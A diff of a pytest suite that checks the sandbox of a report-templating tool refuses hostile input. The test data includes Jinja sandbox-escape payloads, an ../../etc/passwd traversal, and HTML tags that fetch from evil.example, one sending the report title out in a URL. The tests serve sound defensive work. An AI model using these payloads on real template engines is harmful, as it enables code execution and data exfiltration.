@@ -9,15 +9,15 @@ from time import perf_counter
 
 import pytest
 
-from readiness.document.html import page
+from readiness.document.write import Format
 from readiness.errors import InputError
-from readiness.report.formats import RENDERERS, ReportFormat
+from readiness.report.formats import render_here
 from readiness.report.model import Report
 from readiness.report.render_apart import render_apart
 from readiness.theme.theme import Part, Theme
 from tests.program import ROOT
 from tests.report.services import SOBER
-from tests.reports import pdftotext
+from tests.reports import as_page, pdftotext
 
 Reports = Callable[[str], Report]
 Own = Callable[..., Theme]
@@ -40,30 +40,29 @@ def own(tmp_path: Path) -> Own:
     return with_templates
 
 
-LEAD = '{% extends "shipped/sections/plan.html.j2" %}{% block lead %}<p>Ours: {{ report.team }}.</p>{% endblock %}'
+LEAD = '{% extends "shipped/section.html.j2" %}{% block before %}<p>Ours: {{ document.title }}.</p>{% endblock %}'
 
 
-def test_one_block_can_be_replaced_and_all_else_stays(own: Own, report: Reports) -> None:
-    made = page(report("northside"), own(sections__plan_html=LEAD))
+def test_a_section_can_be_added_to_and_all_else_stays(own: Own, report: Reports) -> None:
+    made = as_page(report("northside"), own(sections__plan_html=LEAD))
     assert "<p>Ours: Northside Community Mental Health Team.</p>" in made
-    assert "The numbers give the order" not in made
-    shipped = page(report("northside"), SHORT)
+    shipped = as_page(report("northside"), SHORT)
     assert made.partition('<section class="plan"')[0] == shipped.partition('<section class="plan"')[0]
     assert made.count("<tr>") == shipped.count("<tr>")
 
 
 def test_a_style_sheet_of_ones_own_is_added_in_the_themes_colours(own: Own, report: Reports) -> None:
     theme = own(own_css="h1 { color: var(--warm); }")
-    data, told = RENDERERS[ReportFormat.HTML](report("northside"), theme)
+    data, told = render_here(Format.HTML, report("northside"), theme)
     assert f"h1 {{ color: {SOBER.warm}; }}" in data.decode()
     assert told == ()
 
 
 def test_every_format_is_made_apart_as_it_is_here(own: Own, report: Reports, tmp_path: Path) -> None:
     theme = own(sections__plan_html=LEAD)
-    for form in (ReportFormat.HTML, ReportFormat.MARKDOWN, ReportFormat.JSON):
-        assert render_apart(form, report("northside"), theme) == RENDERERS[form](report("northside"), theme)
-    (tmp_path / "r.pdf").write_bytes(render_apart(ReportFormat.PDF, report("northside"), theme)[0])
+    for form in (Format.HTML, Format.MARKDOWN, Format.JSON):
+        assert render_apart(form, report("northside"), theme) == render_here(form, report("northside"), theme)
+    (tmp_path / "r.pdf").write_bytes(render_apart(Format.PDF, report("northside"), theme)[0])
     assert "Ours: Northside" in pdftotext(tmp_path / "r.pdf")
 
 
@@ -71,16 +70,16 @@ def test_every_format_is_made_apart_as_it_is_here(own: Own, report: Reports, tmp
     ("template", "line", "words"),
     [
         ("one\n{% if %}", 2, "Expected an expression"),
-        ("one\ntwo\n{{ report.nothing }}", 3, "has no attribute 'nothing'"),
+        ("one\ntwo\n{{ section.nothing }}", 3, "has no attribute 'nothing'"),
         ("{{ 1 + 'a' }}", 1, "unsupported operand"),
         ("\n{% include 'nowhere.html' %}", 2, 'there is no template "nowhere.html"'),
         ("{% extends '../../etc/passwd' %}", 1, "there is no template"),
-        ("{{ report.__class__.__mro__ }}", 1, "may not have"),
+        ("{{ document.__class__.__mro__ }}", 1, "may not have"),
         ("{{ ''.__class__.__base__.__subclasses__() }}", 1, "may not have"),
-        ("{{ report.team.format.__globals__ }}", 1, "may not have"),
-        ("{{ '{0.__class__}'.format(report) }}", 1, "may not have"),
+        ("{{ document.title.format.__globals__ }}", 1, "may not have"),
+        ("{{ '{0.__class__}'.format(document) }}", 1, "may not have"),
         ("{{ self.__init__.__globals__ }}", 1, "may not have"),
-        ("{% set _ = report.update({'team': 'x'}) %}", 1, "may not have"),
+        ("{% set _ = document.update({'title': 'x'}) %}", 1, "may not have"),
         ("{{ lipsum() }}", 1, "is undefined"),
         ("{{ range(1000000) }}", 1, "Range too big"),
         ("{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}", 1, "recursion"),
@@ -91,7 +90,7 @@ def test_a_mistake_or_an_escape_is_said_with_file_and_line(
 ) -> None:
     theme = own(sections__open_html=template)
     with pytest.raises(InputError) as error:
-        render_apart(ReportFormat.HTML, report("northside"), theme)
+        render_apart(Format.HTML, report("northside"), theme)
     (problem,) = error.value.problems
     assert problem.place is not None
     assert (problem.place.file, problem.place.line) == (f"{theme.templates}/sections/open.html.j2", line)
@@ -102,10 +101,8 @@ ENDLESS = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% 
 BOXES = "<div style='display: flex'>" * 40 + "x" + "</div>" * 40
 
 
-@pytest.mark.parametrize(
-    ("form", "template"), [(ReportFormat.HTML, ENDLESS), (ReportFormat.PDF, BOXES)], ids=["loop", "boxes"]
-)
-def test_what_takes_too_long_is_stopped(own: Own, report: Reports, form: ReportFormat, template: str) -> None:
+@pytest.mark.parametrize(("form", "template"), [(Format.HTML, ENDLESS), (Format.PDF, BOXES)], ids=["loop", "boxes"])
+def test_what_takes_too_long_is_stopped(own: Own, report: Reports, form: Format, template: str) -> None:
     began = perf_counter()
     with pytest.raises(InputError, match="took more than 3 seconds, and were stopped"):
         render_apart(form, report("northside"), own(sections__open_html=template), deadline=3)
@@ -114,7 +111,7 @@ def test_what_takes_too_long_is_stopped(own: Own, report: Reports, form: ReportF
 
 def test_what_takes_too_much_memory_is_stopped(own: Own, report: Reports) -> None:
     with pytest.raises(InputError, match="need more memory"):
-        render_apart(ReportFormat.HTML, report("northside"), own(sections__open_html="{{ 'x' * 9000000000 }}"))
+        render_apart(Format.HTML, report("northside"), own(sections__open_html="{{ 'x' * 9000000000 }}"))
 
 
 def test_a_program_that_ends_without_an_answer_is_said(
@@ -122,19 +119,19 @@ def test_a_program_that_ends_without_an_answer_is_said(
 ) -> None:
     monkeypatch.setattr(sys, "executable", "/bin/false")
     with pytest.raises(InputError, match="ended the program"):
-        render_apart(ReportFormat.HTML, report("northside"), own())
+        render_apart(Format.HTML, report("northside"), own())
 
 
 def test_the_network_is_refused(own: Own, report: Reports) -> None:
     theme = own(sections__open_html='<img alt="x" src="http://127.0.0.1:9/x.png"/>')
     with pytest.raises(InputError, match=r"asks for http://127\.0\.0\.1:9/x\.png"):
-        render_apart(ReportFormat.PDF, report("northside"), theme)
+        render_apart(Format.PDF, report("northside"), theme)
 
 
 def test_a_picture_of_ones_own_is_shown(own: Own, report: Reports, tmp_path: Path) -> None:
     (tmp_path / "dot.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>', "utf-8")
     theme = own(sections__plan_html=LEAD.replace("Ours", '<img alt="x" src="dot.svg"/>'))
-    assert render_apart(ReportFormat.PDF, report("northside"), theme)[0].startswith(b"%PDF")
+    assert render_apart(Format.PDF, report("northside"), theme)[0].startswith(b"%PDF")
 
 
 @pytest.mark.parametrize("module", ["weasyprint", "pickle", "json", "jinja2"])
@@ -143,7 +140,7 @@ def test_no_module_of_the_folder_we_stand_in_is_run(
 ) -> None:
     (tmp_path / f"{module}.py").write_text("open('ran', 'w').write('x'); raise SystemExit(3)", "utf-8")
     monkeypatch.chdir(tmp_path)
-    assert render_apart(ReportFormat.MARKDOWN, report("northside"), own(sections__plan_html=LEAD))[0]
+    assert render_apart(Format.MARKDOWN, report("northside"), own(sections__plan_html=LEAD))[0]
     assert not (tmp_path / "ran").exists()
 
 
@@ -157,16 +154,16 @@ def test_a_link_leads_nothing_from_outside_into_a_report(report: Reports, tmp_pa
     if name == "link.txt":
         (folder / "sections" / "open.html.j2").write_text('{% include "link.txt" %}', "utf-8")
         with pytest.raises(InputError, match="there is no template"):
-            render_apart(ReportFormat.HTML, report("northside"), replace(SOBER, templates=folder))
+            render_apart(Format.HTML, report("northside"), replace(SOBER, templates=folder))
     else:
-        data = render_apart(ReportFormat.HTML, report("northside"), replace(SOBER, templates=folder))[0]
+        data = render_apart(Format.HTML, report("northside"), replace(SOBER, templates=folder))[0]
         assert b"top secret" not in data
 
 
 ASKS = {
     "script": '<script src="https://evil.example/x.js"></script>',
     "inline": "<script>alert(1)</script>",
-    "picture": '<img alt="" src="https://evil.example/t.png?{{ report.team }}"/>',
+    "picture": '<img alt="" src="https://evil.example/t.png?{{ document.title }}"/>',
     "handler": '<p onclick="alert(1)">x</p>',
     "style": '<p style="background: url(https://evil.example/x)">x</p>',
     "sheet": "<style>@import url(https://evil.example/x.css);</style>",
@@ -181,13 +178,13 @@ ASKS = {
 @pytest.mark.parametrize("what", ASKS)
 def test_a_web_page_asks_for_nothing_and_runs_nothing(own: Own, report: Reports, what: str) -> None:
     with pytest.raises(InputError, match=r"The page asks for .*, and a report asks for nothing"):
-        render_apart(ReportFormat.HTML, report("northside"), own(sections__open_html=ASKS[what]))
+        render_apart(Format.HTML, report("northside"), own(sections__open_html=ASKS[what]))
 
 
 def test_a_web_page_may_show_a_picture_in_itself_and_lead_to_others(own: Own, report: Reports) -> None:
     long = "https://lantern.example/" + "a" * 60
     shown = f'<img alt="" src="data:image/png;base64,AAAA"/><a href="{{{{ "{long}" }}}}">us</a><a href="#plan">plan</a>'
-    data = render_apart(ReportFormat.HTML, report("northside"), own(sections__open_html=shown))[0]
+    data = render_apart(Format.HTML, report("northside"), own(sections__open_html=shown))[0]
     assert f'href="{long}"' in data.decode()
 
 
@@ -196,22 +193,22 @@ def test_a_file_that_is_not_utf_8_is_said_with_its_name(own: Own, report: Report
     theme = own(sections__plan_html=LEAD)
     (tmp_path / name).write_bytes(b"caf\xe9")
     with pytest.raises(InputError, match=rf"{name}.*UTF-8"):
-        render_apart(ReportFormat.HTML, report("northside"), theme)
+        render_apart(Format.HTML, report("northside"), theme)
 
 
 def test_colours_of_ones_own_may_have_names(own: Own, report: Reports) -> None:
     theme = own(own_css=":root { --brand: #c00 } h1 { color: var(--brand) }")
-    assert b"var(--brand)" in render_apart(ReportFormat.HTML, report("northside"), theme)[0]
+    assert b"var(--brand)" in render_apart(Format.HTML, report("northside"), theme)[0]
 
 
 def test_a_link_without_its_target_says_which(own: Own, report: Reports) -> None:
     theme = own(sections__open_html="<p>Nothing here.</p>")
     with pytest.raises(InputError, match=r"open.*A link leads to an id that your templates left out"):
-        render_apart(ReportFormat.PDF, report("northside"), theme)
+        render_apart(Format.PDF, report("northside"), theme)
 
 
 def test_what_a_style_sheet_gets_wrong_is_told(own: Own, report: Reports) -> None:
-    _, told = render_apart(ReportFormat.PDF, report("northside"), own(own_css="h1 { colour: red }"))
+    _, told = render_apart(Format.PDF, report("northside"), own(own_css="h1 { colour: red }"))
     assert any("colour" in line for line in told)
 
 
@@ -221,10 +218,9 @@ def test_a_mistake_of_ours_in_there_is_a_bug_and_no_mistake_of_theirs(
     broken = tmp_path / "broken"
     broken.mkdir()
     (broken / "sitecustomize.py").write_text(
-        "import readiness.report.formats as formats\n"
-        "formats.RENDERERS[formats.ReportFormat.HTML] = lambda report, theme: 1 / 0\n",
+        "import readiness.report.formats as formats\nformats.write = lambda *_: 1 / 0\n",
         "utf-8",
     )
     monkeypatch.setenv("PYTHONPATH", f"{broken}{os.pathsep}{ROOT}")
     with pytest.raises(RuntimeError, match="ZeroDivisionError"):
-        render_apart(ReportFormat.HTML, report("northside"), own(sections__plan_html=LEAD))
+        render_apart(Format.HTML, report("northside"), own(sections__plan_html=LEAD))
